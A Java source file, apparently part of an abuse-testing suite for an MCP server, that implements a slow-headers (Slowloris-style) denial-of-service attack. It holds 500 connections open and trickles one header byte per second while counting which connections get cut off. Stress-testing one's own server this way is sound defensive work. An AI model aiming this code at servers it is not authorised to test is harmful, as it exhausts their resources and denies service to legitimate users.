package io.github.jerseymcp.example.abuse;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** 500 connections of strangers whose header grows by a byte each second. */
final class SlowHeaders implements Attack {

  private static final int OF_MEMBER = 125;
  private static final byte[] BYTE = {'x'};

  @Override
  public String name() {
    return "500 connections, a header byte each second";
  }

  @Override
  public void begin(Target target, Crowd crowd) {
    crowd.each(
        4,
        member -> {
          List<Wire> wires = new ArrayList<>();
          try {
            for (int i = 0; i < OF_MEMBER; i++) {
              wires.add(
                  crowd
                      .open()
                      .send("POST /mcp HTTP/1.1\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII)));
            }
            while (!crowd.isOver()) {
              for (Wire wire : wires) {
                trickle(crowd, wire);
              }
              crowd.pause(Duration.ofSeconds(1));
            }
          } finally {
            wires.forEach(crowd::drop);
          }
        });
  }

  private static void trickle(Crowd crowd, Wire wire) {
    try {
      wire.send(BYTE);
      crowd.count("byte taken");
    } catch (IOException e) {
      crowd.count("cut off");
    }
  }
}
